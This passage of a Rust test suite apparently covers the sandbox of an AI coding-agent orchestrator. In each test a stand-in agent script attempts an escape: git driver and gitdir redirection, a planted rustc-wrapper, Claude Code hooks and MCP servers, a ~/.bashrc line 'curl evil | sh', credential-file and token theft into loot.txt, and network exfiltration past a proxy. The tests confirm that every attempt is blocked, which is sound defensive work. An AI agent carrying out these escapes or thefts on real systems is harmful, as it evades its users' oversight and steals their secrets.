    let marker = tmp.path().canonicalize().unwrap().join("driver-ran");
    let agent = "import os, pathlib, shutil, subprocess, sys\n\
task, marker = sys.argv[1], sys.argv[2]\n\
def rev_parse(what):\n\
\x20   return subprocess.run(['git', 'rev-parse', '--path-format=absolute', what], \
capture_output=True, text=True, check=True).stdout.strip()\n\
common, own = rev_parse('--git-common-dir'), rev_parse('--git-dir')\n\
pathlib.Path('done-' + task + '.txt').write_text(task + '\\n')\n\
if task in ('IMPL-001', 'IMPL-002'):\n\
\x20   copy = os.path.abspath('copy-' + task)\n\
\x20   try:\n\
\x20       shutil.copytree(common, copy, ignore=shutil.ignore_patterns('worktrees', '*.lock'))\n\
\x20   except shutil.Error:\n\
\x20       pass\n\
\x20   run = os.path.join(copy, 'pwn.sh')\n\
\x20   pathlib.Path(run).write_text('#!/bin/sh\\ntouch ' + marker + '\\n[ $# -gt 0 ] && exec cat \"$1\"\\nexec cat\\n')\n\
\x20   os.chmod(run, 0o755)\n\
\x20   extra = os.path.join(copy, 'extra.config')\n\
\x20   pathlib.Path(extra).write_text('[diff \"pwn\"]\\n\\ttextconv = ' + run + '\\n')\n\
\x20   with open(os.path.join(copy, 'config'), 'a') as f:\n\
\x20       f.write('[filter \"pwn\"]\\n\\tclean = ' + run + '\\n\\tsmudge = cat\\n')\n\
\x20       f.write('[include]\\n\\tpath = ' + extra + '\\n')\n\
\x20   pathlib.Path('.gitattributes').write_text('* filter=pwn diff=pwn\\n')\n\
\x20   if task == 'IMPL-001':\n\
\x20       pathlib.Path('.git').write_text('gitdir: ' + copy + '\\n')\n\
\x20   else:\n\
\x20       pathlib.Path(own, 'commondir').write_text(copy + '\\n')\n\
\x20   with open('README.md', 'a') as f:\n\
\x20       f.write('edited\\n')\n\
print(task + ' done')\n";
    let marker_arg = marker.display().to_string();
    commit_project(
        &root,
        &[
            (
                ".gitignore",
                ".workflow/\nagent.py\nwavecrew.toml\nwavecrew.tasks.toml\n",
            ),
            ("README.md", "app\n"),
            ("agent.py", agent),
            (
                "wavecrew.tasks.toml",
                "goal = \"Redirects\"\nsession = \"TC-redirect\"\n\n\
                 [[tasks]]\nid = \"IMPL-001\"\ntitle = \"Redirects .git\"\n\n\
                 [[tasks]]\nid = \"IMPL-002\"\ntitle = \"Redirects commondir\"\n\n\
                 [[tasks]]\nid = \"IMPL-003\"\ntitle = \"Plain work\"\n",
            ),
        ],
        &["{task_id}", &marker_arg],
        "",
    );
    let o = run_bin("wavecrew", &["run", "wavecrew.tasks.toml"], &root);
    let all = o.render();
    assert_eq!(o.code, 1, "{all}");
    // The agent's own git, confined, could not run the driver either
    // (it may not write outside its box): nothing ran it.
    assert!(!marker.exists(), "a driver the agent wrote ran: {all}");
    let session = root.join(".workflow/.team/TC-redirect");
    for (id, file) in [("IMPL-001", ".git`"), ("IMPL-002", "commondir`")] {
        let (status, error) = outcome_of(&session, id);
        assert_eq!(status, "failed", "{id}: {error}\n{all}");
        assert!(
            error.contains("the agent changed what git runs") && error.contains(file),
            "{id}: {error}"
        );
        // What it tampered with is a field of its own, for the person who
        // looks (status, the reports, the cockpit) and for scripts.
        let store = wavecrew_core::FileTaskStore::for_session(&session);
        let result = store
            .get(&TaskId::new(id).unwrap())
            .unwrap()
            .result
            .unwrap();
        let tampered = result["tampered"].as_array().cloned().unwrap_or_default();
        assert!(
            tampered
                .iter()
                .any(|t| t.as_str().is_some_and(|t| t.contains(file))),
            "{id}: {result:#}"
        );
        // Where it led git is named, for the person who looks.
        assert!(
            error.contains("it led git to `") && error.contains(&format!("copy-{id}")),
            "{id}: {error}"
        );
    }
    let (status, error) = outcome_of(&session, "IMPL-003");
    assert_eq!(status, "completed", "{error}\n{all}");
    let landed = git(
        &root,
        &["ls-tree", "-r", "--name-only", "wavecrew/TC-redirect"],
    );
    assert!(landed.contains("done-IMPL-003.txt"), "{landed}");
    assert!(!landed.contains(".gitattributes"), "{landed}");
    git(&root, &["fsck", "--no-progress"]);
}

/// The caches an agent may write hold data, never code another program
/// runs: it may add to Cargo's registry, but not plant a `rustc-wrapper`
/// in `~/.cargo/config.toml` (which every later `cargo` of the user would
/// run), drop a binary into `~/.cargo/bin` ahead of a real one, change a
/// toolchain's settings under `~/.rustup`, or replace a tool installed
/// under `~/.cache`.
#[test]
fn a_confined_agent_writes_cache_data_but_no_code_another_program_runs() {
    let tmp = TempProject::new();
    let root = app_root(&tmp);
    let home = tmp.path().canonicalize().unwrap().join("home");
    for dir in [
        ".cargo/registry",
        ".cargo/bin",
        ".rustup",
        ".cache/tools/bin",
    ] {
        std::fs::create_dir_all(home.join(dir)).unwrap();
    }
    std::fs::write(home.join(".cargo/config.toml"), "[net]\noffline = true\n").unwrap();
    std::fs::write(home.join(".cache/tools/bin/pytest"), "#!/bin/sh\n").unwrap();
    let agent = "import os, pathlib\n\
home = os.environ['HOME']\n\
for rel, text in [\n\
\x20   ('.cargo/registry/note.txt', 'data\\n'),\n\
\x20   ('.cargo/config.toml', '[build]\\nrustc-wrapper = \"/tmp/evil\"\\n'),\n\
\x20   ('.cargo/bin/cargo', '#!/bin/sh\\necho evil\\n'),\n\
\x20   ('.rustup/settings.toml', 'default_toolchain = \"evil\"\\n'),\n\
\x20   ('.cache/tools/bin/pytest', '#!/bin/sh\\necho evil\\n'),\n\
]:\n\
\x20   try:\n\
\x20       with open(os.path.join(home, rel), 'a') as f:\n\
\x20           f.write(text)\n\
\x20       print('WROTE ' + rel)\n\
\x20   except OSError as e:\n\
\x20       print('DENIED ' + rel + ': ' + e.strerror)\n\
pathlib.Path('done.txt').write_text('done\\n')\n";
    commit_project(
        &root,
        &[
            (
                ".gitignore",
                ".workflow/\nagent.py\nwavecrew.toml\nwavecrew.tasks.toml\n",
            ),
            ("README.md", "app\n"),
            ("agent.py", agent),
            (
                "wavecrew.tasks.toml",
                "goal = \"Caches\"\nsession = \"TC-caches\"\n\n\
                 [[tasks]]\nid = \"IMPL-001\"\ntitle = \"Write done.txt\"\n",
            ),
        ],
        &[],
        "",
    );
    let (code, all) = run_as_user_of(&home, &root, &["run", "wavecrew.tasks.toml"], &[]);
    assert_eq!(code, Some(0), "{all}");
    let said = stdout_of(&root.join(".workflow/.team/TC-caches"), "IMPL-001");
    assert!(said.contains("WROTE .cargo/registry/note.txt"), "{said}");
    for rel in [
        ".cargo/config.toml",
        ".cargo/bin/cargo",
        ".rustup/settings.toml",
        ".cache/tools/bin/pytest",
    ] {
        assert!(said.contains(&format!("DENIED {rel}")), "{rel}: {said}");
    }
    assert_eq!(
        std::fs::read_to_string(home.join(".cargo/config.toml")).unwrap(),
        "[net]\noffline = true\n"
    );
    assert!(!home.join(".cargo/bin/cargo").exists());
}

/// An agent CLI's settings are code its next session runs (Claude Code's
/// hooks and MCP servers, Codex's `notify`): a confined agent of kind
/// `claude` (here a script that stands in for it) cannot add a hook to the
/// user's `~/.claude/settings.json`, an MCP server to `~/.claude.json`, a
/// command to `~/.claude/commands`, nor touch another CLI's settings; it
/// works with its private copy (`CLAUDE_CONFIG_DIR`, beside the task's
/// attempts), which holds the user's settings and which it may change;
/// and an MCP server it writes into the project's `.mcp.json` never lands.
#[test]
fn a_confined_agent_cli_gets_a_private_copy_of_its_settings() {
    let tmp = TempProject::new();
    let root = app_root(&tmp);
    let home = tmp.path().canonicalize().unwrap().join("home");
    for dir in [".claude/commands", ".codex", ".gemini"] {
        std::fs::create_dir_all(home.join(dir)).unwrap();
    }
    let user_settings = "{\"env\": {\"FROM_USER\": \"1\"}}\n";
    std::fs::write(home.join(".claude/settings.json"), user_settings).unwrap();
    std::fs::write(home.join(".claude.json"), "{}\n").unwrap();
    std::fs::write(
        home.join(".claude/.credentials.json"),
        "{\"login\": \"mine\"}",
    )
    .unwrap();
    std::fs::write(home.join(".codex/auth.json"), "{\"login\": \"codex's\"}").unwrap();
    std::fs::write(home.join(".codex/config.toml"), "model = \"m\"\n").unwrap();
    std::fs::write(home.join(".gemini/settings.json"), "{}\n").unwrap();
    let hook = "{\"hooks\": {\"SessionStart\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"touch /tmp/pwned\"}]}]}}\n";
    let agent = format!(
        "#!/usr/bin/env python3\n\
import json, os, pathlib, sys\n\
if '--version' in sys.argv:\n\
\x20   print('2.0.0 (Claude Code)')\n\
\x20   sys.exit(0)\n\
home, mine = os.environ['HOME'], os.environ.get('CLAUDE_CONFIG_DIR', '')\n\
print(json.dumps({{'type': 'system', 'subtype': 'init', 'session_id': 's-1'}}))\n\
said = ['COPY ' + mine, 'SEES ' + pathlib.Path(mine, 'settings.json').read_text().strip()]\n\
said.append('LOGIN ' + pathlib.Path(mine, '.credentials.json').read_text())\n\
try:\n\
\x20   said.append('READ ' + pathlib.Path(home, '.codex/auth.json').read_text())\n\
except OSError as e:\n\
\x20   said.append('UNREADABLE .codex/auth.json: ' + e.strerror)\n\
for path in [os.path.join(home, rel) for rel in ('.claude/settings.json', '.claude.json', '.claude/commands/evil.md', '.codex/config.toml', '.gemini/settings.json')] + [os.path.join(mine, 'settings.json')]:\n\
\x20   try:\n\
\x20       with open(path, 'w') as f:\n\
\x20           f.write({hook:?})\n\
\x20       said.append('WROTE ' + path)\n\
\x20   except OSError as e:\n\
\x20       said.append('DENIED ' + path + ': ' + e.strerror)\n\
pathlib.Path('done.txt').write_text('done\\n')\n\
pathlib.Path('.mcp.json').write_text(json.dumps({{'mcpServers': {{'evil': {{'command': '/tmp/evil'}}}}}}))\n\
print(json.dumps({{'type': 'result', 'subtype': 'success', 'is_error': False, 'session_id': 's-1', 'result': ' | '.join(said)}}))\n"
    );
    let fake = tmp.path().canonicalize().unwrap().join("claude");
    std::fs::write(&fake, agent).unwrap();
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&fake, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    std::fs::create_dir_all(&root).unwrap();
    std::fs::write(
        root.join(".gitignore"),
        ".workflow/\nwavecrew.toml\nwavecrew.tasks.toml\n",
    )
    .unwrap();
    std::fs::write(root.join("README.md"), "app\n").unwrap();
    std::fs::write(
        root.join("wavecrew.tasks.toml"),
        "goal = \"Settings\"\nsession = \"TC-settings\"\n\n\
         [[tasks]]\nid = \"IMPL-001\"\ntitle = \"Write done.txt\"\n",
    )
    .unwrap();
    std::fs::write(
        root.join("wavecrew.toml"),
        format!(
            "[aliases]\nagent = \"cc\"\ncodex = \"cc\"\n\n[backends.cc]\nkind = \"claude\"\n\
             program = {:?}\n\n[routing]\nmax_retries = 0\nfallback = []\n",
            fake.display().to_string()
        ),
    )
    .unwrap();
    git(&root, &["init", "-q", "-b", "main"]);
    git(&root, &["add", "."]);
    git(&root, &["commit", "-qm", "start"]);
    let (code, all) = run_as_user_of(&home, &root, &["run", "wavecrew.tasks.toml"], &[]);
    // Nor can it land an MCP server in the project's `.mcp.json`, which
    // the user's next Claude Code session in the project would start.
    assert_eq!(code, Some(1), "{all}");
    let session = root.join(".workflow/.team/TC-settings");
    let (status, error) = outcome_of(&session, "IMPL-001");
    assert_eq!(status, "failed", "{error}");
    assert!(
        error.contains("protected") && error.contains(".mcp.json"),
        "{error}"
    );
    let copy = session.join("attempts/IMPL-001/cli-config/cc");
    let outcome: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(session.join("attempts/IMPL-001/1/outcome.json")).unwrap(),
    )
    .unwrap();
    let said = outcome["final_message"].as_str().unwrap_or_default();
    assert!(said.contains(&format!("COPY {}", copy.display())), "{said}");
    assert!(
        said.contains("SEES {\"env\": {\"FROM_USER\": \"1\"}}"),
        "{said}"
    );
    // Its own login it reads (through the copy's link); another CLI's, not.
    assert!(said.contains("LOGIN {\"login\": \"mine\"}"), "{said}");
    assert!(said.contains("UNREADABLE .codex/auth.json"), "{said}");
    for rel in [
        ".claude/settings.json",
        ".claude.json",
        ".claude/commands/evil.md",
        ".codex/config.toml",
        ".gemini/settings.json",
    ] {
        let path = home.join(rel);
        assert!(
            said.contains(&format!("DENIED {}", path.display())),
            "{rel}: {said}"
        );
    }
    assert!(
        said.contains(&format!("WROTE {}", copy.join("settings.json").display())),
        "{said}"
    );
    assert_eq!(
        std::fs::read_to_string(home.join(".claude/settings.json")).unwrap(),
        user_settings
    );
    assert_eq!(
        std::fs::read_to_string(home.join(".claude.json")).unwrap(),
        "{}\n"
    );
    assert!(!home.join(".claude/commands/evil.md").exists());
}

/// The commands wavecrew runs on an agent's work run the agent's code: the
/// project's tests, an acceptance checker it may rewrite, a build the
/// merge queue verifies. An agent that turns the project's own `check.py`
/// (the task's acceptance command and `[integration] verify`) into one that
/// writes the user's `~/.bashrc` gets it run by wavecrew, in the agent's
/// box: the write is refused, while the check's work in its folder and its
/// `TMPDIR` goes on, and the task lands.
#[test]
fn the_checks_wavecrew_runs_on_the_agents_work_stay_in_its_box() {
    let tmp = TempProject::new();
    let root = app_root(&tmp);
    let home = tmp.path().canonicalize().unwrap().join("home");
    std::fs::create_dir_all(&home).unwrap();
    let agent = r"import pathlib, sys
home = sys.argv[1]
pathlib.Path('check.py').write_text('''import os, pathlib, sys, tempfile
target = os.path.join(%r, '.bashrc')
try:
    with open(target, 'a') as f:
        f.write('curl evil | sh\\n')
    print('WROTE ' + target)
except OSError as e:
    print('DENIED ' + target + ': ' + e.strerror)
with tempfile.NamedTemporaryFile(dir=os.environ['TMPDIR']) as t:
    t.write(b'scratch')
pathlib.Path('check-ran.txt').write_text('ran\\n')
''' % home)
pathlib.Path('done.txt').write_text('done\n')
";
    commit_project(
        &root,
        &[
            (
                ".gitignore",
                ".workflow/\nagent.py\nwavecrew.toml\nwavecrew.tasks.toml\ncheck-ran.txt\n",
            ),
            ("README.md", "app\n"),
            ("check.py", "print('the project checks itself')\n"),
            ("agent.py", agent),
            (
                "wavecrew.tasks.toml",
                "goal = \"Checks\"\nsession = \"TC-checks\"\n\n\
                 [[tasks]]\nid = \"IMPL-001\"\ntitle = \"Write done.txt\"\n\
                 acceptance = [{ criterion = \"the check passes\", verify = [\"python3\", \"check.py\"] }]\n",
            ),
        ],
        &[&home.display().to_string()],
        "\n[integration]\nverify = [\"python3\", \"check.py\"]\n",
    );
    let o = run_bin("wavecrew", &["run", "wavecrew.tasks.toml"], &root);
    let all = o.render();
    let session = root.join(".workflow/.team/TC-checks");
    let result = wavecrew_core::FileTaskStore::for_session(&session)
        .get(&TaskId::new("IMPL-001").unwrap())
        .unwrap()
        .result
        .unwrap();
    assert_eq!(o.code, 0, "{all}\n{result:#}");
    assert!(
        !home.join(".bashrc").exists(),
        "a check wrote ~/.bashrc: {all}"
    );
    let text = result.to_string();
    assert!(
        text.contains(&format!("DENIED {}", home.join(".bashrc").display())),
        "{result:#}"
    );
    // `[integration] verify` ran it too, confined as well.
    let mut stack = vec![tmp.path().to_owned()];
    let mut logs = Vec::new();
    while let Some(dir) = stack.pop() {
        for e in std::fs::read_dir(&dir).into_iter().flatten().flatten() {
            let p = e.path();
            if p.is_dir() && !p.is_symlink() {
                stack.push(p);
            } else if p.file_name().is_some_and(|n| n == "verify.log") {
                logs.push(std::fs::read_to_string(&p).unwrap());
            }
        }
    }
    assert!(
        logs.iter().any(|l| l.contains("DENIED")),
        "no verify.log of a confined check: {logs:?}"
    );
    assert_eq!(git(&root, &["show", "wavecrew/TC-checks:done.txt"]), "done");
}

/// More ways to lead git elsewhere, each tried by an agent: IMPL-001
/// points its git folder's `gitdir` elsewhere; IMPL-002, in a repository
/// that reads each worktree's own configuration
/// (`extensions.worktreeConfig`), gives its worktree a `core.worktree` and
/// a filter driver there; IMPL-003 marks `README.md` with a merge driver
/// and a diff driver and tries to define them in every configuration git
/// reads (`~/.gitconfig`, `~/.config/git/config`, the repository's own),
/// while IMPL-004 changes another line of the same file, so the merge
/// queue merges the two. No driver ever runs; the first two attempts fail
/// naming the file; the other two land.
#[test]
fn git_drivers_and_redirects_the_agent_defines_never_run() {
    let tmp = TempProject::new();
    let root = app_root(&tmp);
    let base = tmp.path().canonicalize().unwrap();
    let (home, marker) = (base.join("home"), base.join("driver-ran"));
    std::fs::create_dir_all(home.join(".config/git")).unwrap();
    let agent = r#"import os, pathlib, subprocess, sys
task, marker, home = sys.argv[1], sys.argv[2], sys.argv[3]
def rev_parse(what):
    return subprocess.run(['git', 'rev-parse', '--path-format=absolute', what],
                          capture_output=True, text=True, check=True).stdout.strip()
common, own = rev_parse('--git-common-dir'), rev_parse('--git-dir')
run = os.path.join(os.getcwd(), 'pwn.sh')
pathlib.Path(run).write_text('#!/bin/sh\ntouch ' + marker + '\nexit 1\n')
os.chmod(run, 0o755)
said = []
def attempt(path, text):
    try:
        with open(path, 'a') as f:
            f.write(text)
        said.append('WROTE ' + path)
    except OSError as e:
        said.append('DENIED ' + path + ': ' + e.strerror)
lines = pathlib.Path('README.md').read_text().splitlines(True)
if task == 'IMPL-001':
    attempt(os.path.join(own, 'gitdir'), '')
    pathlib.Path(own, 'gitdir').write_text('/elsewhere/.git\n')
elif task == 'IMPL-002':
    attempt(os.path.join(own, 'config.worktree'),
            '[core]\n\tworktree = /elsewhere\n[filter "pwn"]\n\tclean = ' + run + '\n')
    pathlib.Path('.gitattributes').write_text('* filter=pwn\n')
elif task == 'IMPL-003':
    driver = '[merge "pwn"]\n\tdriver = ' + run + ' %O %A %B\n[diff "pwn"]\n\ttextconv = ' + run + '\n'
    for path in [os.path.join(home, '.gitconfig'), os.path.join(home, '.config/git/config'),
                 os.path.join(common, 'config')]:
        attempt(path, driver)
    pathlib.Path('.gitattributes').write_text('README.md merge=pwn diff=pwn\n')
    lines[0] = 'first line, by IMPL-003\n'
else:
    lines[-1] = 'last line, by IMPL-004\n'
pathlib.Path('README.md').write_text(''.join(lines))
os.remove(run)
print(task + ': ' + ' | '.join(said))
"#;
    let readme = "first\nsecond\nthird\nfourth\nfifth\nsixth\nlast\n";
    let args = [
        "{task_id}",
        &marker.display().to_string(),
        &home.display().to_string(),
    ];
    commit_project(
        &root,
        &[
            (
                ".gitignore",
                ".workflow/\nagent.py\nwavecrew.toml\nwavecrew.tasks.toml\n",
            ),
            ("README.md", readme),
            ("agent.py", agent),
            (
                "wavecrew.tasks.toml",
                "goal = \"Drivers\"\nsession = \"TC-drivers\"\n\n\
                 [[tasks]]\nid = \"IMPL-001\"\ntitle = \"Points gitdir elsewhere\"\n\n\
                 [[tasks]]\nid = \"IMPL-002\"\ntitle = \"Configures its own worktree\"\n\n\
                 [[tasks]]\nid = \"IMPL-003\"\ntitle = \"A merge driver\"\n\n\
                 [[tasks]]\nid = \"IMPL-004\"\ntitle = \"The same file\"\n",
            ),
        ],
        &args,
        "",
    );
    git(&root, &["config", "extensions.worktreeConfig", "true"]);
    let (_, all) = run_as_user_of(
        &home,
        &root,
        &["run", "wavecrew.tasks.toml", "--max-parallel", "4"],
        &[],
    );
    assert!(!marker.exists(), "a driver the agent defined ran: {all}");
    let session = root.join(".workflow/.team/TC-drivers");
    for (id, file) in [("IMPL-001", "gitdir`"), ("IMPL-002", "config.worktree")] {
        let (status, error) = outcome_of(&session, id);
        assert_eq!(status, "failed", "{id}: {error}\n{all}");
        assert!(error.contains(file), "{id}: {error}");
    }
    // A person sees what was tried where they look: `status`, the report.
    let status = run_bin("wavecrew", &["status", session.to_str().unwrap()], &root);
    let summary = std::fs::read_to_string(session.join("reports/summary.md")).unwrap();
    for shown in [&status.stdout, &summary] {
        assert!(
            shown.contains("worktrees/") && shown.contains("/gitdir` was changed"),
            "{shown}"
        );
        assert!(shown.contains("config.worktree` was added"), "{shown}");
    }
    let said = stdout_of(&session, "IMPL-003");
    assert_eq!(said.matches("DENIED").count(), 3, "{said}");
    for id in ["IMPL-003", "IMPL-004"] {
        let (status, error) = outcome_of(&session, id);
        assert_eq!(status, "completed", "{id}: {error}\n{all}");
    }
    let landed = git(&root, &["show", "wavecrew/TC-drivers:README.md"]);
    assert!(
        landed.starts_with("first line, by IMPL-003\n")
            && landed.ends_with("last line, by IMPL-004"),
        "{landed}"
    );
    assert!(!std::fs::read_to_string(home.join(".gitconfig")).is_ok_and(|t| t.contains("pwn")));
    git(&root, &["fsck", "--no-progress"]);
}

/// A confined agent cannot read the usual credential files, even by their
/// absolute path, nor get another service's credential from its
/// environment: it cannot copy a key into its task's files. What
/// `[isolation] pass_env` names it gets; the rest of the home stays
/// readable.
#[test]
fn a_confined_agent_cannot_read_credentials_nor_copy_one_into_its_work() {
    let tmp = TempProject::new();
    let root = app_root(&tmp);
    let home = tmp.path().canonicalize().unwrap().join("home");
    let secrets = [
        ".ssh/id_ed25519",
        ".aws/credentials",
        ".gnupg/private-keys-v1.d/key",
        ".netrc",
        ".git-credentials",
        ".config/gh/hosts.yml",
        ".docker/config.json",
        ".kube/config",
        ".codex/auth.json",
        ".claude/.credentials.json",
        ".gemini/oauth_creds.json",
    ];
    for rel in secrets {
        let path = home.join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, format!("SECRET-{rel}\n")).unwrap();
    }
    std::fs::write(home.join(".docker/other.json"), "readable\n").unwrap();
    std::fs::write(home.join("notes.txt"), "readable\n").unwrap();
    let agent = r"import os, pathlib, sys
home = sys.argv[1]
said, loot = [], []
for rel in sys.argv[2:]:
    path = os.path.join(home, rel)
    try:
        loot.append(pathlib.Path(path).read_text())
        said.append('READ ' + rel)
    except OSError as e:
        said.append('DENIED ' + rel + ': ' + e.strerror)
for name in ['AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN', 'SSH_AUTH_SOCK', 'ALLOWED_TOKEN']:
    said.append(('HAS ' if name in os.environ else 'LACKS ') + name)
    loot.append(os.environ.get(name, ''))
pathlib.Path('loot.txt').write_text(''.join(loot))
print(' | '.join(said))
";
    let mut args: Vec<String> = vec![home.display().to_string()];
    args.extend(secrets.iter().map(|s| (*s).to_owned()));
    args.extend([".docker/other.json".to_owned(), "notes.txt".to_owned()]);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    commit_project(
        &root,
        &[
            (
                ".gitignore",
                ".workflow/\nagent.py\nwavecrew.toml\nwavecrew.tasks.toml\n",
            ),
            ("README.md", "app\n"),
            ("agent.py", agent),
            (
                "wavecrew.tasks.toml",
                "goal = \"Secrets\"\nsession = \"TC-secrets\"\n\n\
                 [[tasks]]\nid = \"IMPL-001\"\ntitle = \"Write loot.txt\"\n",
            ),
        ],
        &args,
        "\n[isolation]\npass_env = [\"ALLOWED_TOKEN\"]\n",
    );
    let (code, all) = run_as_user_of(
        &home,
        &root,
        &["run", "wavecrew.tasks.toml"],
        &[
            ("AWS_SECRET_ACCESS_KEY", "SECRET-aws-env"),
            ("GITHUB_TOKEN", "SECRET-gh-env"),
            ("SSH_AUTH_SOCK", "/tmp/SECRET-agent.sock"),
            ("ALLOWED_TOKEN", "passed-on"),
        ],
    );
    assert_eq!(code, Some(0), "{all}");
    let said = stdout_of(&root.join(".workflow/.team/TC-secrets"), "IMPL-001");
    for rel in secrets {
        assert!(said.contains(&format!("DENIED {rel}")), "{rel}: {said}");
    }
    for rel in [".docker/other.json", "notes.txt"] {
        assert!(said.contains(&format!("READ {rel}")), "{rel}: {said}");
    }
    for name in ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "SSH_AUTH_SOCK"] {
        assert!(said.contains(&format!("LACKS {name}")), "{name}: {said}");
    }
    assert!(said.contains("HAS ALLOWED_TOKEN"), "{said}");
    let loot = git(&root, &["show", "wavecrew/TC-secrets:loot.txt"]);
    assert!(!loot.contains("SECRET"), "a secret landed: {loot}");
    assert!(loot.contains("passed-on"), "{loot}");
}

/// Runs its arguments as a command without Landlock, as on a kernel that
/// lacks it: a seccomp filter (installed through ctypes, then `exec`)
/// answers Landlock's three calls, which have the same numbers on every
/// architecture, with `ENOSYS`.
const WITHOUT_LANDLOCK: &str = r"import ctypes, os, struct, sys
ENOSYS, RET_ERRNO, RET_ALLOW = 38, 0x00050000, 0x7fff0000
def op(code, jt, jf, k):
    return struct.pack('HBBI', code, jt, jf, k)
prog = op(0x20, 0, 0, 0)
for nr in (444, 445, 446):
    prog += op(0x15, 0, 1, nr) + op(0x06, 0, 0, RET_ERRNO | ENOSYS)
prog += op(0x06, 0, 0, RET_ALLOW)
buf = ctypes.create_string_buffer(prog)
fprog = struct.pack('HxxxxxxQ', len(prog) // 8, ctypes.addressof(buf))
libc = ctypes.CDLL(None, use_errno=True)
PR_SET_NO_NEW_PRIVS, PR_SET_SECCOMP, SECCOMP_MODE_FILTER = 38, 22, 2
if libc.prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0:
    sys.exit('no_new_privs: %d' % ctypes.get_errno())
if libc.prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, ctypes.c_char_p(fprog)) != 0:
    sys.exit('seccomp: %d' % ctypes.get_errno())
os.execv(sys.argv[1], sys.argv[1:])
";

/// `sandbox = "required"` on a kernel without Landlock refuses before any
/// task, naming what cannot be confined; `auto` there runs the tasks
/// unconfined and says so once.
#[test]
fn a_required_sandbox_refuses_to_run_without_landlock() {
    let tmp = TempProject::new();
    let root = app_root(&tmp);
    commit_project(
        &root,
        &[
            (
                ".gitignore",
                ".workflow/\nagent.py\nwavecrew.toml\nwavecrew.tasks.toml\n",
            ),
            ("README.md", "app\n"),
            (
                "agent.py",
                "import pathlib\npathlib.Path('done.txt').write_text('done\\n')\n",
            ),
            (
                "wavecrew.tasks.toml",
                "goal = \"Required\"\nsession = \"TC-required\"\n\n\
                 [[tasks]]\nid = \"IMPL-001\"\ntitle = \"Write done.txt\"\n",
            ),
        ],
        &[],
        "\n[isolation]\nsandbox = \"required\"\n",
    );
    let run = |root: &Path| {
        let out = std::process::Command::new("python3")
            .args(["-c", WITHOUT_LANDLOCK])
            .arg(wavecrew_testkit::bin_path("wavecrew"))
            .args(["run", "wavecrew.tasks.toml"])
            .current_dir(root)
            .env("NO_COLOR", "1")
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        (
            out.status.code(),
            format!(
                "{}{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            ),
        )
    };
    let (code, all) = run(&root);
    assert_eq!(code, Some(2), "{all}");
    assert!(
        all.contains("[isolation] sandbox = \"required\"") && all.contains("Landlock"),
        "{all}"
    );
    let session = root.join(".workflow/.team/TC-required");
    assert!(
        !session.join("attempts/IMPL-001").exists(),
        "a task started: {all}"
    );
    // The same machine with `auto`: the task runs, unconfined, said once.
    let config = root.join("wavecrew.toml");
    let text = std::fs::read_to_string(&config)
        .unwrap()
        .replace("sandbox = \"required\"", "sandbox = \"auto\"");
    std::fs::write(&config, text).unwrap();
    let (code, all) = run(&root);
    assert_eq!(code, Some(0), "{all}");
    assert_eq!(all.matches("agents run unconfined").count(), 1, "{all}");
}

/// A server on this machine's loopback for the network tests: `allowed`
/// answers every request with `ok-from-allowed`; every byte any
/// connection sends is kept, to tell what reached it.
struct LoopbackServer {
    port: u16,
    received: std::sync::Arc<std::sync::Mutex<Vec<u8>>>,
}

impl LoopbackServer {
    fn start(answer: bool) -> LoopbackServer {
        use std::io::{Read, Write};
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let received = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let kept = std::sync::Arc::clone(&received);
        std::thread::spawn(move || {
            for conn in listener.incoming() {
                let Ok(mut conn) = conn else { return };
                let kept = std::sync::Arc::clone(&kept);
                std::thread::spawn(move || {
                    let _ = conn.set_read_timeout(Some(std::time::Duration::from_secs(5)));
                    let mut head = Vec::new();
                    let mut buf = [0u8; 1024];
                    while let Ok(n) = conn.read(&mut buf) {
                        if n == 0 {
                            break;
                        }
                        head.extend_from_slice(&buf[..n]);
                        kept.lock().unwrap().extend_from_slice(&buf[..n]);
                        if head.windows(4).any(|w| w == b"\r\n\r\n") {
                            break;
                        }
                    }
                    if answer {
                        let body = "ok-from-allowed";
                        let _ = write!(
                            conn,
                            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                            body.len()
                        );
                    }
                });
            }
        });
        LoopbackServer { port, received }
    }

    fn received(&self) -> String {
        String::from_utf8_lossy(&self.received.lock().unwrap()).into_owned()
    }
}

/// The agent of the network tests: it reads the planted key and tries
/// every way out it knows, printing one line per try (`NAME OK …` or
/// `NAME FAIL …`): a direct connection to the sink around the proxy, the
/// sink through the proxy (absolute-form HTTP and CONNECT), an allowed
/// name asked for by its IP literal, DNS (a name lookup and a UDP packet
/// to an outside server), a SOCKS greeting, and the allowed host by name,
/// by CONNECT and by plain HTTP. What it got goes into `loot.txt`.
const NETWORK_AGENT: &str = r"import os, socket, sys, pathlib
sink, allowed = int(sys.argv[1]), int(sys.argv[2])
said, loot = [], []
try:
    key = pathlib.Path(os.path.expanduser('~/.ssh/id_ed25519')).read_text()
except OSError as e:
    key = 'no key: ' + e.strerror
proxy = os.environ.get('HTTPS_PROXY', '')
said.append('PROXY ' + (proxy or 'none'))
def read_all(s):
    data = b''
    while True:
        try:
            d = s.recv(4096)
        except OSError:
            break
        if not d:
            break
        data += d
    return data.decode(errors='replace')
def via_proxy(payload, then=None):
    host, port = proxy[len('http://'):].rsplit(':', 1)
    s = socket.create_connection((host, int(port)), timeout=5)
    s.sendall(payload)
    if then is None:
        return read_all(s)
    first = b''
    while b'\r\n\r\n' not in first:
        d = s.recv(1)
        if not d:
            break
        first += d
    if b' 200 ' not in first.split(b'\r\n')[0]:
        return first.decode(errors='replace') + read_all(s)
    s.sendall(then)
    return first.decode() + read_all(s)
def attempt(name, fn):
    try:
        got = fn()
        loot.append(got)
        said.append(name + ' OK ' + got.replace('\r\n', ' ')[:200])
    except Exception as e:
